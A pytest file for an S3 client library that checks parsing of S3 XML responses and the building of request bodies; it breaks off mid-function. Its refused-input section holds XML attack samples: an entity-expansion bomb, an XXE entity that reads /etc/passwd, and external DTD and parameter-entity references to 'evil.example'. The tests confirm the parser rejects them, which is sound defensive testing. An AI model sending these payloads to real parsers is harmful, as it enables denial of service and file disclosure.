from __future__ import annotations

import xml.etree.ElementTree as ET
from datetime import datetime, timezone

import pytest

from rawS3.errors import ResponseError
from rawS3.operations.buckets import (
    Bucket,
    build_create_bucket_configuration,
    parse_list_buckets,
)
from rawS3.operations.listing import parse_list_objects_v2
from rawS3.operations.multipart_xml import (
    CompleteResult,
    InitiateResult,
    build_complete_multipart_upload,
    parse_complete_multipart_upload,
    parse_initiate_multipart_upload,
    parse_list_multipart_uploads,
    parse_list_parts,
)
from rawS3.operations.objects import (
    CopyResult,
    DeletedObject,
    DeleteError,
    build_delete_objects,
    parse_copy_result,
    parse_delete_objects,
)
from rawS3.xml import S3_NAMESPACE, find_error, parse_error, strip_etag

DECL = b'<?xml version="1.0" encoding="UTF-8"?>\n'
NS = S3_NAMESPACE.encode()


def doc(root: str, inner: str, *, namespace: bool = True) -> bytes:
    xmlns = f' xmlns="{S3_NAMESPACE}"' if namespace else ""
    return DECL + f"<{root}{xmlns}>{inner}</{root}>".encode()


def utc(
    year: int, month: int, day: int, hour: int = 0, minute: int = 0, second: int = 0, micro: int = 0
) -> datetime:
    return datetime(year, month, day, hour, minute, second, micro, tzinfo=timezone.utc)


def local(tag: str) -> str:
    return tag.rpartition("}")[2]


# --- error documents ---------------------------------------------------------------------

AWS_NO_SUCH_KEY = DECL + (
    b"<Error><Code>NoSuchKey</Code><Message>The specified key does not exist.</Message>"
    b"<Key>photos/2006/February/sample.jpg</Key><RequestId>4442587FB7D0A2F9</RequestId>"
    b"<HostId>Uuag1LuByRx9e6j5Onimru9pO4ZVKnJ2Qz7/C1NPcfTWAtRPfTaOFg==</HostId></Error>"
)
AWS_SIGNATURE = DECL + (
    b"<Error><Code>SignatureDoesNotMatch</Code>"
    b"<Message>The request signature we calculated does not match the signature you "
    b"provided. Check your key and signing method.</Message>"
    b"<AWSAccessKeyId>AKIAIOSFODNN7EXAMPLE</AWSAccessKeyId>"
    b"<StringToSign>AWS4-HMAC-SHA256\n20240101T000000Z\n20240101/us-east-1/s3/aws4_request\n"
    b"0123</StringToSign>"
    b"<SignatureProvided>deadbeef</SignatureProvided>"
    b"<StringToSignBytes>41 57 53 34</StringToSignBytes>"
    b"<CanonicalRequest>GET\n/b/k\n\nhost:h\n\nhost\nUNSIGNED-PAYLOAD</CanonicalRequest>"
    b"<CanonicalRequestBytes>47 45 54</CanonicalRequestBytes>"
    b"<RequestId>R1</RequestId><HostId>H1</HostId></Error>"
)
RGW_NO_SUCH_KEY = DECL + (
    b"<Error><Code>NoSuchKey</Code><Message></Message><BucketName>test-bucket</BucketName>"
    b"<RequestId>tx00000a1b2c3d4e5f60718-0065a1b2c3-1234-default</RequestId>"
    b"<HostId>1234-default-default</HostId></Error>"
)
MINIO_NO_SUCH_BUCKET = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b"<Error><Code>NoSuchBucket</Code><Message>The specified bucket does not exist</Message>"
    b"<BucketName>missing</BucketName><Resource>/missing/obj</Resource>"
    b"<RequestId>17A9C1E2B3D4F506</RequestId>"
    b"<HostId>dd9025bab4ad464b049177c95eb6ebf374d3b3fd1af9251148b658df7ac2e3e8</HostId>"
    b"</Error>"
)


def test_parse_error_aws() -> None:
    error = parse_error(AWS_NO_SUCH_KEY)
    assert error.code == "NoSuchKey"
    assert error.message == "The specified key does not exist."
    assert error.key == "photos/2006/February/sample.jpg"
    assert error.request_id == "4442587FB7D0A2F9"
    assert error.host_id == "Uuag1LuByRx9e6j5Onimru9pO4ZVKnJ2Qz7/C1NPcfTWAtRPfTaOFg=="
    assert error.bucket is None
    assert error.resource is None
    assert error.details == {}


def test_parse_error_signature_details() -> None:
    error = parse_error(AWS_SIGNATURE)
    assert error.code == "SignatureDoesNotMatch"
    assert error.details["StringToSign"].startswith("AWS4-HMAC-SHA256\n20240101T000000Z\n")
    assert error.details["CanonicalRequest"] == "GET\n/b/k\n\nhost:h\n\nhost\nUNSIGNED-PAYLOAD"
    assert error.details["CanonicalRequestBytes"] == "47 45 54"
    assert error.details["AWSAccessKeyId"] == "AKIAIOSFODNN7EXAMPLE"
    assert "Code" not in error.details
    assert "RequestId" not in error.details


def test_parse_error_rgw_empty_message() -> None:
    error = parse_error(RGW_NO_SUCH_KEY)
    assert error.code == "NoSuchKey"
    assert error.message == ""
    assert error.bucket == "test-bucket"
    assert error.request_id == "tx00000a1b2c3d4e5f60718-0065a1b2c3-1234-default"


def test_parse_error_minio() -> None:
    error = parse_error(MINIO_NO_SUCH_BUCKET)
    assert error.code == "NoSuchBucket"
    assert error.bucket == "missing"
    assert error.resource == "/missing/obj"
    assert error.request_id == "17A9C1E2B3D4F506"
    assert error.details == {}


def test_parse_error_with_namespace_and_bucket_element() -> None:
    error = parse_error(doc("Error", "<Code>AccessDenied</Code><Bucket>b</Bucket>"))
    assert (error.code, error.message, error.bucket) == ("AccessDenied", "", "b")


def test_error_document_is_hashable_despite_details() -> None:
    assert hash(parse_error(AWS_SIGNATURE)) == hash(parse_error(AWS_SIGNATURE))


def test_parse_error_without_code() -> None:
    with pytest.raises(ResponseError, match="no <Code>"):
        parse_error(doc("Error", "<Message>m</Message>"))


def test_parse_error_on_other_document() -> None:
    with pytest.raises(ResponseError, match="expected <Error> but the response holds <Delete"):
        parse_error(doc("DeleteResult", ""))


def test_find_error_in_200_complete_body() -> None:
    # AWS keeps the connection alive with whitespace before the document.
    body = (
        b"\n   \n   \n"
        + DECL
        + (
            b"<Error><Code>InternalError</Code><Message>We encountered an internal error. "
            b"Please try again.</Message><RequestId>656c76696e6727732072657175657374</RequestId>"
            b"<HostId>Uuag1LuByRx9e6j5Onimru9pO4ZVKnJ2Qz7/C1NPcfTWAtRPfTaOFg==</HostId></Error>"
        )
    )
    error = find_error(body)
    assert error is not None
    assert error.code == "InternalError"
    assert error.request_id == "656c76696e6727732072657175657374"


def test_find_error_none_for_a_result() -> None:
    assert find_error(COMPLETE) is None
    assert find_error(DELETE_RESULT) is None


def test_parser_names_error_root_when_a_result_was_expected() -> None:
    with pytest.raises(ResponseError, match=r"holds <Error> \(code InternalError\)"):
        parse_complete_multipart_upload(doc("Error", "<Code>InternalError</Code>"))


# --- refused and malformed input ---------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<Error><Code>&lol4;</Code></Error>"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE Error [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Error><Code>&xxe;</Code></Error>"""
EXTERNAL_DTD = b'<?xml version="1.0"?><!DOCTYPE Error SYSTEM "http://evil.example/e.dtd"><Error/>'
PARAMETER_ENTITY = b"""<!DOCTYPE Error [<!ENTITY % p SYSTEM "http://evil.example/p">%p;]>
<Error><Code>X</Code></Error>"""


@pytest.mark.parametrize(
    "body",
    [
        BILLION_LAUGHS,
        EXTERNAL_ENTITY,
        EXTERNAL_DTD,
        PARAMETER_ENTITY,
        b"<!doctype Error><Error><Code>X</Code></Error>",
        b"\xef\xbb\xbf<!DOCTYPE Error><Error><Code>X</Code></Error>",
    ],
    ids=["laughs", "external-entity", "external-dtd", "parameter-entity", "lowercase", "bom"],
)
def test_dtd_refused(body: bytes) -> None:
    for parse in (parse_error, find_error, parse_list_objects_v2):
        with pytest.raises(ResponseError, match="DTD or entities"):
            parse(body)


def test_dtd_refused_by_the_parser_guard_in_utf16() -> None:
    # The byte scan cannot see UTF-16 markup; the parser's DOCTYPE hook must.
    text = '<?xml version="1.0" encoding="UTF-16"?>' + BILLION_LAUGHS.decode().split("?>", 1)[1]
    body = text.encode("utf-16")
    assert b"<!DOCTYPE" not in body
    with pytest.raises(ResponseError, match="DTD or entities"):
        parse_error(body)


def test_undeclared_entity_refused() -> None:
    with pytest.raises(ResponseError, match="not well-formed"):
        parse_error(b"<Error><Code>&xxe;</Code></Error>")


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"   \r\n ",
        b"<html><head><title>502 Bad Gateway</title></head><body><hr><center>nginx</center>"
        b"</body></html>",
        b"Internal Server Error",
        b'{"error": "nope"}',
        DECL + b"<Error><Code>NoSuchKey</Code><Message>The spec",
        DECL,
        b"<Error><Code>A</Code></Error><Error/>",
        b"\xff\xfe\x00garbage",
    ],
    ids=["empty", "whitespace", "html", "text", "json", "truncated", "declaration", "two", "bin"],
)
def test_non_xml_is_response_error(body: bytes) -> None:
    with pytest.raises(ResponseError):
        parse_error(body)
    with pytest.raises(ResponseError):
        find_error(body)


def test_well_formed_html_is_response_error() -> None:
    with pytest.raises(ResponseError, match="expected <Error> but the response holds <html>"):
        parse_error(b"<html><body><h1>Service Unavailable</h1></body></html>")
    assert find_error(b"<html><body/></html>") is None


def test_malformed_message_shows_excerpt() -> None:
    with pytest.raises(ResponseError, match="502 Bad Gateway"):
        parse_error(b"<html><title>502 Bad Gateway</title><hr></html>")


def test_body_must_be_bytes() -> None:
    with pytest.raises(TypeError, match="bytes"):
        parse_error(AWS_NO_SUCH_KEY.decode())  # type: ignore[arg-type]


def test_bytearray_and_memoryview_accepted() -> None:
    assert parse_error(bytearray(RGW_NO_SUCH_KEY)).code == "NoSuchKey"  # type: ignore[arg-type]
    assert parse_error(memoryview(RGW_NO_SUCH_KEY)).code == "NoSuchKey"  # type: ignore[arg-type]


# --- ListBuckets -------------------------------------------------------------------------

LIST_BUCKETS = doc(
    "ListAllMyBucketsResult",
    "<Owner><ID>bcaf1ffd86f461ca5fb16fd081034f</ID><DisplayName>webfile</DisplayName></Owner>"
    "<Buckets>"
    "<Bucket><Name>amzn-s3-demo-bucket</Name><CreationDate>2019-12-11T23:32:47+00:00"
    "</CreationDate></Bucket>"
    "<Bucket><Name>other</Name><CreationDate>2006-02-03T16:45:09.000Z</CreationDate></Bucket>"
    "</Buckets>",
)


def test_parse_list_buckets() -> None:
    result = parse_list_buckets(LIST_BUCKETS)
    assert result.buckets == (
        Bucket("amzn-s3-demo-bucket", utc(2019, 12, 11, 23, 32, 47)),
        Bucket("other", utc(2006, 2, 3, 16, 45, 9)),
    )
    assert result.owner_id == "bcaf1ffd86f461ca5fb16fd081034f"
    assert result.owner_name == "webfile"


def test_parse_list_buckets_empty_without_owner_or_namespace() -> None:
    result = parse_list_buckets(doc("ListAllMyBucketsResult", "<Buckets/>", namespace=False))
    assert result.buckets == ()
    assert (result.owner_id, result.owner_name) == (None, None)
    result = parse_list_buckets(doc("ListAllMyBucketsResult", ""))
    assert result.buckets == ()


def test_parse_list_buckets_missing_name() -> None:
    body = doc(
        "ListAllMyBucketsResult",
        "<Buckets><Bucket><CreationDate>2019-12-11T23:32:47Z</CreationDate></Bucket></Buckets>",
    )
    with pytest.raises(ResponseError, match="<Bucket> lacks its <Name>"):
        parse_list_buckets(body)


# --- ListObjectsV2 -----------------------------------------------------------------------

LIST_PAGE = doc(
    "ListBucketResult",
    "<Name>bucket</Name><Prefix>photos/</Prefix><KeyCount>3</KeyCount><MaxKeys>3</MaxKeys>"
    "<Delimiter>/</Delimiter><IsTruncated>true</IsTruncated>"
    "<NextContinuationToken>1ueGcxLPRx1Tr/XYExHnhbYLgveDs2J/wm36Hy4vbOwM=</NextContinuationToken>"
    "<Contents><Key>photos/a.jpg</Key><LastModified>2009-10-12T17:50:30.000Z</LastModified>"
    '<ETag>"fba9dede5f27731c9771645a39863328"</ETag><Size>434234</Size>'
    "<StorageClass>STANDARD</StorageClass></Contents>"
    "<Contents><Key>photos/ b </Key><LastModified>2009-10-12T17:50:31Z</LastModified>"
    '<ETag>"9b2cf535f27731c974343645a3985328-2"</ETag><Size>0</Size>'
    "<Owner><ID>x</ID></Owner><ChecksumAlgorithm>CRC32</ChecksumAlgorithm></Contents>"
    "<CommonPrefixes><Prefix>photos/2006/</Prefix></CommonPrefixes>",
)


def test_parse_list_objects_v2_truncated_page() -> None:
    page = parse_list_objects_v2(LIST_PAGE)
    assert page.is_truncated is True
    assert page.next_continuation_token == "1ueGcxLPRx1Tr/XYExHnhbYLgveDs2J/wm36Hy4vbOwM="
    assert page.key_count == 3
    assert page.prefix == "photos/"
    assert page.common_prefixes == ("photos/2006/",)
    first, second = page.contents
    assert first.key == "photos/a.jpg"
    assert first.size == 434234
    assert first.etag == '"fba9dede5f27731c9771645a39863328"'
    assert first.last_modified == utc(2009, 10, 12, 17, 50, 30)
    assert first.storage_class == "STANDARD"
    assert second.key == "photos/ b "  # keys keep their whitespace
    assert second.size == 0
    assert second.storage_class is None


def test_parse_list_objects_v2_without_namespace() -> None:
    body = LIST_PAGE.replace(b' xmlns="' + NS + b'"', b"")
    assert b"xmlns" not in body
    assert parse_list_objects_v2(body) == parse_list_objects_v2(LIST_PAGE)


def test_parse_list_objects_v2_with_prefixed_namespace() -> None:
    body = (
        b'<s3:ListBucketResult xmlns:s3="' + NS + b'"><s3:IsTruncated>false</s3:IsTruncated>'
        b"<s3:Contents><s3:Key>k</s3:Key><s3:Size>1</s3:Size><s3:ETag>e</s3:ETag>"
        b"<s3:LastModified>2020-01-01T00:00:00Z</s3:LastModified></s3:Contents>"
        b"</s3:ListBucketResult>"
    )
    page = parse_list_objects_v2(body)
    assert [entry.key for entry in page.contents] == ["k"]
    assert page.key_count == 1


def test_parse_list_objects_v2_empty_bucket() -> None:
    body = doc(
        "ListBucketResult",
        "<Name>bucket</Name><Prefix></Prefix><KeyCount>0</KeyCount><MaxKeys>1000</MaxKeys>"
        "<IsTruncated>false</IsTruncated>",
    )
    page = parse_list_objects_v2(body)
    assert page.contents == ()
    assert page.common_prefixes == ()
    assert page.is_truncated is False
    assert page.next_continuation_token is None
    assert page.key_count == 0
    assert page.prefix == ""


def test_parse_list_objects_v2_key_count_falls_back_to_entries() -> None:
    body = doc(
        "ListBucketResult",
        "<CommonPrefixes><Prefix>a/</Prefix><Prefix>b/</Prefix></CommonPrefixes>",
        namespace=False,
    )
    page = parse_list_objects_v2(body)
    assert page.common_prefixes == ("a/", "b/")
    assert page.key_count == 2
    assert page.is_truncated is False


ENCODED_PAGE = doc(
    "ListBucketResult",
    "<Name>bucket</Name><Prefix>run+books%2F</Prefix><Delimiter>%2F</Delimiter>"
    "<EncodingType>url</EncodingType><KeyCount>6</KeyCount><IsTruncated>false</IsTruncated>"
    + "".join(
        f"<Contents><Key>{key}</Key><LastModified>2024-01-01T00:00:00.000Z</LastModified>"
        '<ETag>"e"</ETag><Size>1</Size></Contents>'
        for key in (
            "run+books%2Fa+b.txt",
            "run+books%2Fa%2Bb.txt",
            "run+books%2F100%25.csv",
            "run+books%2F%ED%95%9C%EA%B8%80.txt",
            "run+books%2Fline%0Abreak",
        )
    )
    + "<CommonPrefixes><Prefix>run+books%2Fquux%20ab%2F</Prefix></CommonPrefixes>",
)


def test_parse_list_objects_v2_url_encoded() -> None:
    page = parse_list_objects_v2(ENCODED_PAGE)
    assert page.prefix == "run books/"
    assert [entry.key for entry in page.contents] == [
        "run books/a b.txt",  # AWS and MinIO send a space as '+'
        "run books/a+b.txt",  # and a literal '+' as %2B
        "run books/100%.csv",
        "run books/한글.txt",
        "run books/line\nbreak",
    ]
    assert page.common_prefixes == ("run books/quux ab/",)  # Ceph RGW sends %20


def test_parse_list_objects_v2_raw_keys_not_decoded() -> None:
    body = ENCODED_PAGE.replace(b"<EncodingType>url</EncodingType>", b"")
    page = parse_list_objects_v2(body)
    assert page.contents[0].key == "run+books%2Fa+b.txt"
    assert page.prefix == "run+books%2F"


def test_parse_list_objects_v2_encoded_invalid_utf8() -> None:
    body = ENCODED_PAGE.replace(b"%ED%95%9C", b"%FF%FE")
    with pytest.raises(ResponseError, match="not UTF-8"):
        parse_list_objects_v2(body)


def test_parse_list_objects_v2_truncated_without_token() -> None:
    body = doc("ListBucketResult", "<IsTruncated>true</IsTruncated>")
    with pytest.raises(ResponseError, match="NextContinuationToken"):
        parse_list_objects_v2(body)


@pytest.mark.parametrize(
    ("inner", "match"),
    [
        ("<IsTruncated>yes</IsTruncated>", "'true' or 'false'"),
        ("<KeyCount>-1</KeyCount>", "non-negative integer"),
        (
            "<Contents><Key>k</Key><Size>12a</Size><ETag>e</ETag>"
            "<LastModified>2020-01-01T00:00:00Z</LastModified></Contents>",
            "non-negative integer",
        ),
        (
            "<Contents><Key>k</Key><Size>1</Size><ETag>e</ETag>"
            "<LastModified>yesterday</LastModified></Contents>",
            "timestamp",
        ),
        (
            "<Contents><Key>k</Key><Size>1</Size><ETag>e</ETag>"
            "<LastModified>2020-13-01T00:00:00Z</LastModified></Contents>",
            "invalid timestamp",
        ),
        ("<Contents><Size>1</Size></Contents>", "<Contents> lacks its <Key>"),
    ],
)
def test_parse_list_objects_v2_bad_values(inner: str, match: str) -> None:
    with pytest.raises(ResponseError, match=match):
        parse_list_objects_v2(doc("ListBucketResult", inner))


def test_parse_list_objects_v2_wrong_document() -> None:
    with pytest.raises(ResponseError, match="expected <ListBucketResult>"):
        parse_list_objects_v2(LIST_BUCKETS)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("2009-10-12T17:50:30.000Z", utc(2009, 10, 12, 17, 50, 30)),
        ("2009-10-12T17:50:30Z", utc(2009, 10, 12, 17, 50, 30)),
        ("2009-10-12T17:50:30.123456789Z", utc(2009, 10, 12, 17, 50, 30, 123456)),
        ("2009-10-12T17:50:30.5", utc(2009, 10, 12, 17, 50, 30, 500000)),
        ("2009-10-12T19:50:30+02:00", utc(2009, 10, 12, 17, 50, 30)),
        ("2009-10-12T15:20:30-0230", utc(2009, 10, 12, 17, 50, 30)),
        ("Mon, 12 Oct 2009 17:50:30 GMT", utc(2009, 10, 12, 17, 50, 30)),
    ],
)
def test_timestamps(text: str, expected: datetime) -> None:
    body = doc("CopyObjectResult", f"<ETag>e</ETag><LastModified>{text}</LastModified>")
    moment = parse_copy_result(body).last_modified
    assert moment == expected
    assert moment.utcoffset() == timezone.utc.utcoffset(None)


# --- multipart ---------------------------------------------------------------------------

INITIATE = doc(
    "InitiateMultipartUploadResult",
    "<Bucket>example-bucket</Bucket><Key>example-object</Key>"
    "<UploadId>VXBsb2FkIElEIGZvciA2aWWpbmcncyBteS1tb3ZpZS5tMnRzIHVwbG9hZA</UploadId>",
)
COMPLETE = doc(
    "CompleteMultipartUploadResult",
    "<Location>http://Example-Bucket.s3.region.amazonaws.com/Example-Object</Location>"
    "<Bucket>Example-Bucket</Bucket><Key>Example-Object</Key>"
    '<ETag>"3858f62230ac3c915f300c664312c11f-9"</ETag>',
)


def test_parse_initiate_multipart_upload() -> None:
    assert parse_initiate_multipart_upload(INITIATE) == InitiateResult(
        bucket="example-bucket",
        key="example-object",
        upload_id="VXBsb2FkIElEIGZvciA2aWWpbmcncyBteS1tb3ZpZS5tMnRzIHVwbG9hZA",
    )


def test_parse_initiate_empty_upload_id() -> None:
    body = doc("InitiateMultipartUploadResult", "<Bucket>b</Bucket><Key>k</Key><UploadId/>")
    with pytest.raises(ResponseError, match="UploadId"):
        parse_initiate_multipart_upload(body)


def test_parse_complete_multipart_upload() -> None:
    assert parse_complete_multipart_upload(COMPLETE) == CompleteResult(
        location="http://Example-Bucket.s3.region.amazonaws.com/Example-Object",
        bucket="Example-Bucket",
        key="Example-Object",
        etag='"3858f62230ac3c915f300c664312c11f-9"',
    )


def test_parse_complete_with_leading_whitespace_and_no_location() -> None:
    body = b" \n\n " + doc(
        "CompleteMultipartUploadResult",
        "<Bucket>b</Bucket><Key>k</Key><ETag>&quot;abc-2&quot;</ETag>",
        namespace=False,
    )
    result = parse_complete_multipart_upload(body)
    assert result.location is None
    assert result.etag == '"abc-2"'


def test_parse_list_parts() -> None:
    body = doc(
        "ListPartsResult",
        "<Bucket>example-bucket</Bucket><Key>example-object</Key><UploadId>XXBsb2</UploadId>"
        "<PartNumberMarker>1</PartNumberMarker><NextPartNumberMarker>3</NextPartNumberMarker>"
        "<MaxParts>2</MaxParts><IsTruncated>true</IsTruncated>"
        "<Part><PartNumber>2</PartNumber><LastModified>2010-11-10T20:48:34.000Z</LastModified>"
        '<ETag>"7778aef83f66abc1fa1e8477f296d394"</ETag><Size>10485760</Size></Part>'
        "<Part><PartNumber>3</PartNumber><LastModified>2010-11-10T20:48:33.000Z</LastModified>"
        '<ETag>"aaaa18db4cc2f85cedef654fccc4a4x8"</ETag><Size>10485760</Size></Part>',
    )
    page = parse_list_parts(body)
    assert page.is_truncated is True
    assert page.next_part_number_marker == 3
    assert [part.part_number for part in page.parts] == [2, 3]
    assert page.parts[0].etag == '"7778aef83f66abc1fa1e8477f296d394"'
    assert page.parts[0].size == 10485760
    assert page.parts[1].last_modified == utc(2010, 11, 10, 20, 48, 33)


def test_parse_list_parts_empty() -> None:
    page = parse_list_parts(doc("ListPartsResult", "<IsTruncated>false</IsTruncated>"))
    assert (page.parts, page.is_truncated, page.next_part_number_marker) == ((), False, None)


def test_parse_list_parts_truncated_without_marker() -> None:
    with pytest.raises(ResponseError, match="NextPartNumberMarker"):
        parse_list_parts(doc("ListPartsResult", "<IsTruncated>true</IsTruncated>"))


def test_parse_list_multipart_uploads() -> None:
    body = doc(
        "ListMultipartUploadsResult",
        "<Bucket>bucket</Bucket><KeyMarker></KeyMarker><UploadIdMarker></UploadIdMarker>"
        "<NextKeyMarker>my-movie.m2ts</NextKeyMarker>"
        "<NextUploadIdMarker>YW55IGlkZWEgd2h5IGVsdmluZydzIHVwbG9hZCBmYWlsZWQ</NextUploadIdMarker>"
        "<MaxUploads>3</MaxUploads><IsTruncated>true</IsTruncated>"
        "<Upload><Key>my-divisor</Key><UploadId>XMgbGlrZSBlbHZpbmcncyBub3QgaGF2aW5nIG11Y2ggbHVjaw"
        "</UploadId><Initiator><ID>x</ID></Initiator><StorageClass>STANDARD</StorageClass>"
        "<Initiated>2010-11-10T20:48:33.000Z</Initiated></Upload>"
        "<Upload><Key>my-movie.m2ts</Key><UploadId>VXBsb2FkIElEIGZvciBlbHZpbmcncyBteS1tb3ZpZS5tMnRz"
        "</UploadId><Initiated>2010-11-10T20:48:34.000Z</Initiated></Upload>",
    )
    page = parse_list_multipart_uploads(body)
    assert page.is_truncated is True
    assert page.next_key_marker == "my-movie.m2ts"
    assert page.next_upload_id_marker == "YW55IGlkZWEgd2h5IGVsdmluZydzIHVwbG9hZCBmYWlsZWQ"
    assert [upload.key for upload in page.uploads] == ["my-divisor", "my-movie.m2ts"]
    assert page.uploads[0].upload_id == "XMgbGlrZSBlbHZpbmcncyBub3QgaGF2aW5nIG11Y2ggbHVjaw"
    assert page.uploads[1].initiated == utc(2010, 11, 10, 20, 48, 34)
    assert page.common_prefixes == ()


def test_parse_list_multipart_uploads_empty_markers_and_encoding() -> None:
    body = doc(
        "ListMultipartUploadsResult",
        "<EncodingType>url</EncodingType><NextKeyMarker></NextKeyMarker><NextUploadIdMarker/>"
        "<IsTruncated>false</IsTruncated>"
        "<Upload><Key>a+b%2Bc</Key><UploadId>u</UploadId>"
        "<Initiated>2010-11-10T20:48:33Z</Initiated></Upload>"
        "<CommonPrefixes><Prefix>dir%20x/</Prefix></CommonPrefixes>",
        namespace=False,
    )
    page = parse_list_multipart_uploads(body)
    assert page.next_key_marker is None
    assert page.next_upload_id_marker is None
    assert page.uploads[0].key == "a b+c"
    assert page.common_prefixes == ("dir x/",)


def test_parse_list_multipart_uploads_truncated_without_marker() -> None:
    body = doc("ListMultipartUploadsResult", "<IsTruncated>true</IsTruncated>")
    with pytest.raises(ResponseError, match="NextKeyMarker"):
        parse_list_multipart_uploads(body)


# --- DeleteObjects / copy ----------------------------------------------------------------

DELETE_RESULT = doc(
    "DeleteResult",
    "<Deleted><Key>sample1.txt</Key></Deleted>"
    "<Deleted><Key>sample3.txt</Key><VersionId>v1</VersionId><DeleteMarker>true</DeleteMarker>"
    "</Deleted>"
    "<Error><Key>sample2.txt</Key><Code>AccessDenied</Code><Message>Access Denied</Message>"
    "</Error>",
)


def test_parse_delete_objects() -> None:
    result = parse_delete_objects(DELETE_RESULT)
    assert result.deleted == (
        DeletedObject("sample1.txt", None),
        DeletedObject("sample3.txt", "v1", delete_marker=True),
    )
    assert result.errors == (DeleteError("sample2.txt", "AccessDenied", "Access Denied"),)


def test_parse_delete_objects_quiet_and_empty() -> None:
    result = parse_delete_objects(doc("DeleteResult", ""))
    assert (result.deleted, result.errors) == ((), ())


def test_parse_copy_result_object_and_part() -> None:
    expected = CopyResult('"9b2cf535f27731c974343645a3985328"', utc(2009, 10, 28, 22, 32))
    for root in ("CopyObjectResult", "CopyPartResult"):
        body = doc(
            root,
            "<LastModified>2009-10-28T22:32:00.000Z</LastModified>"
            "<ETag>&quot;9b2cf535f27731c974343645a3985328&quot;</ETag>",
        )
        assert parse_copy_result(body) == expected


def test_parse_copy_result_missing_etag() -> None:
    body = doc("CopyObjectResult", "<LastModified>2009-10-28T22:32:00Z</LastModified>")
    with pytest.raises(ResponseError, match="<ETag>"):
        parse_copy_result(body)


@pytest.mark.parametrize(
    ("etag", "bare"),
    [
        ('"abc"', "abc"),
        ('"abc-3"', "abc-3"),
        ("&quot;abc&quot;", "abc"),
        ("abc", "abc"),
        ('"', '"'),
        ('""', ""),
        ('"abc', '"abc'),
        ("", ""),
    ],
)
def test_strip_etag(etag: str, bare: str) -> None:
    assert strip_etag(etag) == bare


def test_strip_etag_type() -> None:
    with pytest.raises(TypeError):
        strip_etag(b'"abc"')  # type: ignore[arg-type]


# --- builders ----------------------------------------------------------------------------


def _root(body: bytes) -> ET.Element:
    assert body.startswith(b'<?xml version="1.0" encoding="UTF-8"?>')
    root = ET.fromstring(body)
    assert root.tag.startswith("{" + S3_NAMESPACE + "}")
    return root


def test_build_complete_multipart_upload_round_trip() -> None:
    parts = [(1, '"a54357aff0632cce46d942af68356b38"'), (2, '"0c78aef83f66abc1fa1e8477f296d394"')]
    root = _root(build_complete_multipart_upload(iter(parts)))
    assert local(root.tag) == "CompleteMultipartUpload"
    found = [
        (
            int(part.findtext(f"{{{S3_NAMESPACE}}}PartNumber") or 0),
            part.findtext(f"{{{S3_NAMESPACE}}}ETag"),
        )
        for part in root
    ]
    assert found == parts
    assert all(local(part.tag) == "Part" for part in root)


@pytest.mark.parametrize(
    ("parts", "match"),
    [
        ([], "at least one part"),
        ([(2, "e"), (1, "e")], "strictly ascending: parts\\[1\\] has 1 after 2"),
        ([(1, "e"), (1, "e")], "strictly ascending"),
        ([(0, "e")], "part number 0"),
        ([(10001, "e")], "part number 10001"),
        ([(1, "")], "empty ETag"),
        ([(1, "e\x00")], "XML 1.0"),
    ],
)
def test_build_complete_multipart_upload_refuses(parts: list[tuple[int, str]], match: str) -> None:
    with pytest.raises(ValueError, match=match):
        build_complete_multipart_upload(parts)


def test_build_complete_multipart_upload_too_many_parts() -> None:
    parts = [(number, "e") for number in range(1, 10001)]
    assert build_complete_multipart_upload(parts).count(b"<Part>") == 10000
    with pytest.raises(ValueError, match="part number 10001"):
        build_complete_multipart_upload([*parts, (10001, "e")])


@pytest.mark.parametrize("part", [(True, "e"), ("1", "e"), (1, b"e"), [1, "e"], (1, "e", "x")])
def test_build_complete_multipart_upload_types(part: object) -> None:
    with pytest.raises(TypeError, match=r"parts\[0\]"):
        build_complete_multipart_upload([part])  # type: ignore[list-item]


SPECIAL_KEYS = [
    "plain.txt",
    "a&b<c>d\"e'f",
    "]]>",
    " leading and trailing ",
    "tab\tnew\nline",
    "carriage\rreturn",
    "crlf\r\nkey",
    "unicode/日本/😀",
    "&amp;literal",
    "100%",
]


def test_build_delete_objects_round_trip() -> None:
    root = _root(build_delete_objects(SPECIAL_KEYS))
    assert local(root.tag) == "Delete"
    assert root.findtext(f"{{{S3_NAMESPACE}}}Quiet") == "true"
    objects = root.iter(f"{{{S3_NAMESPACE}}}Object")
    keys = [obj.findtext(f"{{{S3_NAMESPACE}}}Key") for obj in objects]
    assert keys == SPECIAL_KEYS


def test_build_delete_objects_not_quiet() -> None:
    root = _root(build_delete_objects(["k"], quiet=False))
    assert root.findtext(f"{{{S3_NAMESPACE}}}Quiet") == "false"


def test_build_delete_objects_limit() -> None:
    keys = [f"k{index}" for index in range(1000)]
    assert build_delete_objects(keys).count(b"<Object>") == 1000
    with pytest.raises(ValueError, match="1 to 1,000 keys, got 1,001"):
        build_delete_objects([*keys, "one-more"])
    with pytest.raises(ValueError, match="got 0"):
        build_delete_objects([])


@pytest.mark.parametrize("bad", ["nul\x00", "esc\x1b[0m", "bell\x07", "\ud800", "\ufffe"])
def test_build_delete_objects_refuses_non_xml_characters(bad: str) -> None:
    with pytest.raises(ValueError, match=r"keys\[1\] holds .* XML 1.0"):
        build_delete_objects(["fine", bad])


def test_build_delete_objects_refuses_empty_and_wrong_types() -> None:
    with pytest.raises(ValueError, match=r"keys\[0\] is empty"):
        build_delete_objects([""])
    with pytest.raises(TypeError, match=r"keys\[1\]"):
        build_delete_objects(["a", 1])  # type: ignore[list-item]
    with pytest.raises(TypeError, match="single str"):
        build_delete_objects("key")


def test_build_create_bucket_configuration() -> None:
    root = _root(build_create_bucket_configuration("eu-west-1"))
    assert local(root.tag) == "CreateBucketConfiguration"
    assert root.findtext(f"{{{S3_NAMESPACE}}}LocationConstraint") == "eu-west-1"


@pytest.mark.parametrize("region", ["", "eu west", "eu\x00"])
def test_build_create_bucket_configuration_refuses(region: str) -> None:
    with pytest.raises(ValueError, match="region"):
        build_create_bucket_configuration(region)


def test_build_create_bucket_configuration_type() -> None:
